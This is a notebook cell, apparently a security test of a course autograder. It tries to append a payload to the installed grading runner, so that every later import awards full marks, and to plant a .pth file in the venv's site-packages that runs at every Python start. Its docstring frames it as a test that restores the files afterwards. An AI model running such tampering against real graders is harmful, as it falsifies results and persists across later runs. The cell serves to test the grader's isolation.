# ruff: noqa: F821, E402 -- notebook cells: toolkit.py's names come from an earlier cell
"""Edit the installed course, for every later run, on an unanswered lab.

Appends to the course's own files where this kernel imports them from
(`course_lib/grading/runner.py`: every later import gives full marks), marks the
editable install's source (the folder the editable finder maps `course_lib` to), and
the venv's site-packages: the editable finder, the `.pth` that loads it, and a new
`.pth` (run by every Python start of that venv). The site-packages and mapped-source
edits are inert comments and a harmless `import os`: the test puts the original bytes
back, but while it runs they would show up anywhere. Today later notebooks in the same
batch are graded with the edited runner. In a sandbox the course and the venv are
mounted read-only.
"""

# %%
import re
import site
import sysconfig
from pathlib import Path

import course_lib.grading.runner

EVIL = (
    "\n\n# course-attack: every later import of the grader gives full marks\n"
    "QuestionResult.score = property(lambda self: self.question.points)\n"
)
INERT = "\n# course-attack was here\n"


def append(path, text):
    try:
        with open(path, "a") as file:
            file.write(text)
        leak(f"edited {path}")
    except OSError as error:
        leak(f"could not edit {path}: {error}")


append(course_lib.grading.runner.__file__, EVIL)

folders = {Path(folder) for folder in site.getsitepackages()}
folders |= {Path(sysconfig.get_paths()[name]) for name in ("purelib", "platlib")}
for folder in sorted(folders):
    installed = sorted(folder.glob("__editable__*course_lib*")) + sorted(folder.glob("course_lib*.pth"))
    if not installed:
        continue
    for path in installed:
        append(path, INERT)
        if path.suffix == ".py":
            for mapped in re.findall(r"'course_lib': '([^']+)'", path.read_text()):
                append(Path(mapped, "grading", "runner.py"), INERT)
    try:
        (folder / "course-attack.pth").write_text("import os\n")
        leak(f"created {folder / 'course-attack.pth'}")
    except OSError as error:
        leak(f"could not create a .pth in {folder}: {error}")
